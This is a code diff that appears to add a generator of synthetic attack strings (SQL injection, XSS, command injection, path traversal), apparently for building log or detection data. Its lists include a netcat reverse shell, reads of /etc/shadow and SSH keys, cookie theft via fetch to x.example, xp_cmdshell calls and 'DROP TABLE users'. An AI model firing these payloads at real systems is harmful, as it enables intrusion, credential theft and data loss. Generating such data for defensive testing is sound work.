@@ -10,6 +10,8 @@ import os
 from functools import cache
 from pathlib import Path
 
+import words
+
 SHARED = Path(os.environ.get("INSYT_SHARED", Path(__file__).resolve().parents[3] / "shared")) / "data/logs-permissive"
 
 BUILT_IN = {
@@ -29,6 +31,34 @@ BUILT_IN = {
                        "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "../../../../../var/log/auth.log",
                        "/proc/self/environ", "../../wp-config.php", "%2e%2e%2f%2e%2e%2fetc%2fgroup", "../../../../etc/passwd%00"],
 }
+
+
+COMMANDS = ["id", "cat /etc/passwd", "whoami", "uname -a", "ls -la /", "sleep 2", "ping -c 1 127.0.0.1", "curl http://127.0.0.1/x.sh", "wget -q -O- http://127.0.0.1/a", "nslookup x.example", "cat /etc/shadow", "echo vulnerable", "dir C:\\", "type C:\\boot.ini",
+            "nc 127.0.0.1 4444 -e /bin/sh", "expr 268409241 - 2", "printenv", "ifconfig", "net user", "php -r 'phpinfo();'", "python -c 'print(1)'", "rm -f /tmp/f", "head /etc/hosts", "find / -name '*.conf'", "ps -ef", "netstat -ano"]
+FILES = ["etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "boot.ini", "proc/self/environ", "var/log/apache2/access.log", "wp-config.php", "WEB-INF/web.xml", "etc/group", "root/.ssh/id_rsa", "etc/nginx/nginx.conf", ".env", "winnt/repair/sam", "proc/version", "home/user/.bash_history"]
+CLIMBS = ["../", "..\\", "..%2f", "%2e%2e/", "..%252f", "....//", "..;/", "%c0%ae%c0%ae/", "..%5c", "..%c0%af", "/..", "./../"]
+HANDLERS = ["onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onpointerenter", "onanimationstart", "onbegin"]
+CALLS = ["alert(1)", "alert(document.domain)", "confirm`1`", "prompt(document.cookie)", "eval(atob('YWxlcnQoMSk='))", "fetch('//x.example/'+document.cookie)", "alert(String.fromCharCode(88,83,83))", "location='//x.example'", "top['al'+'ert'](1)", "import('//x.example/a.js')"]
+TAGS = ["img src=x", "svg", "body", "iframe srcdoc=x", "input autofocus", "details open", "video><source", "math", "marquee", "a href=x", "object data=x", "div style=width:9em", "select", "audio src"]
+
+
+def variant(kind, rng):
+    """A hostile value of `kind` (sqli, xss, cmdi, path-traversal), put together anew."""
+    number, noun = rng.randrange(1, 9999), rng.choice(words.NOUNS)
+    if kind == "cmdi":
+        return rng.choice(["", "127.0.0.1", noun, f"{noun}.txt", str(number)]) + rng.choice(["; ", "|", " || ", " && ", "`", "$(", "\n", "&", "%0a", ";", "'; ", "\"|"]) + rng.choice(COMMANDS).replace(" ", rng.choice([" ", " ", "${IFS}", "\t"])) + rng.choice(["", "", ";", "`", ")", " #", "'", "&"])
+    if kind == "path-traversal":
+        return rng.choice(["", "", "/", f"{noun}/", "file://", "php://filter/read=convert.base64-encode/resource=", "/var/www/"]) + rng.choice(CLIMBS) * rng.randrange(1, 11) + rng.choice(FILES) + rng.choice(["", "", "", "%00", "%00.png", "?", "#", ".html"])
+    if kind == "xss":
+        call = rng.choice(CALLS)
+        return rng.choice(["", "\">", "'>", f"{noun}\">", "</script>", "-->", "';", "\" "]) + rng.choice([f"<script>{call}</script>", f"<ScRiPt >{call}</ScRiPt>", f"<{rng.choice(TAGS)} {rng.choice(HANDLERS)}={call}>", f"<{rng.choice(TAGS)}/{rng.choice(HANDLERS)}=\"{call}\">", f"javascript:{call}",
+                          f"{rng.choice(HANDLERS)}={call} x=", f"<script src=//x.example/{noun}.js></script>", f"<img src=\"x\" {rng.choice(HANDLERS)}='{call}'", f"<a href=\"data:text/html;base64,PHNjcmlwdD4=\">{noun}</a>", f"${{{call}}}"])
+    columns = ",".join(rng.choice(["NULL", str(i), "@@version", "user()", "CONCAT(0x7e,database())", "CHAR(113,120)", "table_name"]) for i in range(rng.randrange(1, 12)))
+    statement = rng.choice([f"UNION ALL SELECT {columns}", f"union select {columns} from information_schema.tables", f"AND {number}={number}", f"OR {number}={number + 1}", f"AND SLEEP({number % 9})", f"AND (SELECT {number} FROM (SELECT(SLEEP({number % 7})))x)", f"ORDER BY {number % 40}",
+                            f"; EXEC xp_cmdshell('{rng.choice(COMMANDS[:4])}')", f"AND EXTRACTVALUE({number},CONCAT(0x5c,user()))", f"OR '{noun}'='{noun}", f"; WAITFOR DELAY '0:0:{number % 9}'", f"GROUP BY {columns} HAVING 1=1", f"AND ASCII(SUBSTR((SELECT password FROM users LIMIT 1),{number % 20},1))>{number % 127}",
+                            f"RLIKE (SELECT {number})", "; DROP TABLE users", f"PROCEDURE ANALYSE({columns})", f"INTO OUTFILE '/var/www/{noun}.php'", f"|| (SELECT '{noun}' FROM dual)"])
+    comment = rng.choice([" ", " ", "/**/", "+", "%09", "/*!*/"])
+    return rng.choice(["1", str(number), noun, "-1", ""]) + rng.choice(["", "'", "\"", "')", "\")", "'))", "`"]) + comment + statement.replace(" ", comment) + rng.choice(["", "-- -", "#", "--", ";%00", "/*"])
 
 
 @cache
